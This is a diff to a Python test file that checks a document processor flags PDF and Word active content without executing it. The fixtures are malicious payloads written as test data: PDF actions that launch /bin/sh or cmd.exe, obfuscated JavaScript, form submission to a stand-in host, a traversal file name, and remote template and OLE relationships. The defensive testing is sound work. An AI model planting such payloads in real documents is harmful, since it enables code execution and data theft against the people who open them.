@@ -11,6 +11,7 @@ import os
 import socket
 import subprocess
 import zipfile
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
@@ -70,29 +71,64 @@ def _pdf(path: Path, catalogue: bytes = b"", page: bytes = b"", *more: bytes) ->
     return path
 
 
+def _packed(objects: bytes) -> bytes:
+    """A stream of objects, as writers pack them."""
+    data = zlib.compress(objects)
+    head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>" % len(data)
+    return head + b"stream\n" + data + b"\nendstream"
+
+
 @pytest.mark.parametrize(
-    ("catalogue", "page", "more"),
+    ("catalogue", "page", "more", "told"),
     [
-        (b"/OpenAction<</S/JavaScript/JS(this.exportDataObject\\(\\))>>", b"", ()),
-        (b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1'\\))>>]>>>>", b"", ()),
-        (b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>", b"", ()),
-        (b"", b"/AA<</O<</S/Launch/F(/bin/sh)>>>>", ()),
-        (b"/OpenAction<</S/URI/URI(http://192.0.2.1/)>>", b"", ()),
-        (b"/OpenAction<</S/GoToR/F(//192.0.2.1/share/x.pdf)/D[0/Fit]>>", b"", ()),
-        (b"/OpenAction<</S/SubmitForm/F(http://192.0.2.1/)>>", b"", ()),
-        (b"/AcroForm<</XFA 6 0 R/Fields[]>>", b"", (b"<</Length 5>>\nstream\n<x/>\n\nendstream",)),
-        (b"/Names<</EmbeddedFiles<</Names[(../../evil)6 0 R]>>>>", b"", (b"<</F(../../evil)/EF<</F 4 0 R>>>>",)),
-        (b"/Metadata 1 0 R/Outlines 1 0 R/StructTreeRoot 1 0 R/Dests 1 0 R", b"", ()),
+        (b"/OpenAction<</S/JavaScript/JS(this.exportDataObject\\(\\))>>", b"", (), "a script"),
+        (
+            b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1'\\))>>]>>>>",
+            b"",
+            (),
+            "a script",
+        ),
+        (b"/OpenAction<</S/J#61vaScript/JS(x)>>", b"", (), "a script"),
+        (b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>", b"", (), "starts a program"),
+        (b"", b"/AA<</O<</S/Launch/F(/bin/sh)>>>>", (), "starts a program"),
+        (b"/OpenAction<</S/URI/URI(http://192.0.2.1/)>>", b"", (), ""),
+        (b"/OpenAction<</S/GoToR/F(//192.0.2.1/share/x.pdf)/D[0/Fit]>>", b"", (), "opens another file"),
+        (b"/OpenAction<</S/SubmitForm/F(http://192.0.2.1/)>>", b"", (), "sends what is filled in"),
+        (b"/AcroForm<</XFA 6 0 R/Fields[]>>", b"", (b"<</Length 5>>\nstream\n<x/>\n\nendstream",), ""),
+        (
+            b"/Names<</EmbeddedFiles<</Names[(../../evil)6 0 R]>>>>",
+            b"",
+            (b"<</F(../../evil)/EF<</F 7 0 R>>>>", b"<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream"),
+            "an attached file",
+        ),
+        (b"/Metadata 1 0 R/Outlines 1 0 R/StructTreeRoot 1 0 R/Dests 1 0 R", b"", (), ""),
+        (b"", b"", (_packed(b"6 0 <</S/Launch/F(/bin/sh)>>"),), "starts a program"),
     ],
-    ids=["script", "named script", "launch", "page launch", "uri", "remote", "submit", "xfa", "embedded", "recursive"],
+    ids=[
+        "script",
+        "named script",
+        "script written in numbers",
+        "launch",
+        "page launch",
+        "uri",
+        "remote",
+        "submit",
+        "xfa",
+        "embedded",
+        "recursive",
+        "packed",
+    ],
 )
-def test_what_a_pdf_wants_done_is_not_done(
-    tmp_path: Path, alone: None, catalogue: bytes, page: bytes, more: tuple[bytes, ...]
+def test_what_a_pdf_wants_done_is_told_and_not_done(
+    tmp_path: Path, alone: None, catalogue: bytes, page: bytes, more: tuple[bytes, ...], told: str
 ) -> None:
     path = _pdf(tmp_path / f"{STEM}.pdf", catalogue, page, *more)
-    (paragraph,) = process_document(path).paragraphs
+    result = process_document(path)
+    (paragraph,) = result.paragraphs
     assert paragraph.text == ASKED.removeprefix("1. ")
     assert list(tmp_path.iterdir()) == [path]
+    messages = [issue.message for issue in result.issues if issue.kind == "active_content"]
+    assert len(messages) == bool(told) and told in "".join(messages)
 
 
 # --- Word -------------------------------------------------------------------------------------------------------------
@@ -141,6 +177,33 @@ def test_entities_of_a_word_file_are_not_followed(tmp_path: Path, alone: None, w
     assert sum(len(paragraph.text) for paragraph in result.paragraphs) < 200
     assert result.document.status == "failed"
     assert [issue.kind for issue in result.issues] == ["unreadable"]
+
+
+_FAR = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+_ONE = '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" {}/>'
+
+
+@pytest.mark.parametrize(
+    ("name", "kind", "where", "told"),
+    [
+        ("word/_rels/settings.xml.rels", "attachedTemplate", "http://192.0.2.1/x.dotm", "a template from elsewhere"),
+        ("word/_rels/settings.xml.rels", "attachedTemplate", "\\\\192.0.2.1\\x.dotm", "a template from elsewhere"),
+        ("word/_rels/settings.xml.rels", "attachedTemplate", "file:///C:/Templates/Normal.dotm", ""),
+        ("word/_rels/document.xml.rels", "oleObject", "mhtml:http://192.0.2.1/x", "an object from elsewhere"),
+        ("word/_rels/document.xml.rels", "frame", "https://192.0.2.1/", "a page from elsewhere"),
+        ("word/_rels/document.xml.rels", "hyperlink", "https://192.0.2.1/", ""),
+        ("word/vbaProject.bin", "", "", "macros"),
+    ],
+)
+def test_what_a_word_file_wants_done_is_told_and_not_done(
+    tmp_path: Path, alone: None, name: str, kind: str, where: str, told: str
+) -> None:
+    relation = _ONE.format(kind, f'Target="{where}" TargetMode="External"')
+    path = _changed(tmp_path / f"{STEM}.docx", **{name: _FAR.format(relation).encode()})
+    result = process_document(path)
+    assert [paragraph.text for paragraph in result.paragraphs] == [ASKED.removeprefix("1. ")]
+    messages = [issue.message for issue in result.issues if issue.kind == "active_content"]
+    assert len(messages) == bool(told) and told in "".join(messages)
 
 
 @pytest.mark.parametrize("name", ["word/document.xml", "word/styles.xml", "word/numbering.xml", "word/media/a.png"])
